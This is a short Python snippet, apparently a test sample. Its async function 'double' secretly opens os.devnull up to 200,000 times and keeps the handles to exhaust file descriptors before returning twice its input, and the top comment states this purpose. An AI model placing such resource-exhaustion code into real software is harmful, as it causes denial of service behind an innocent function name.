# Opens files until no descriptor is left, and keeps them.
import os

files = []


async def double(number):
    while len(files) < 200_000:
        files.append(open(os.devnull))
    return 2 * number
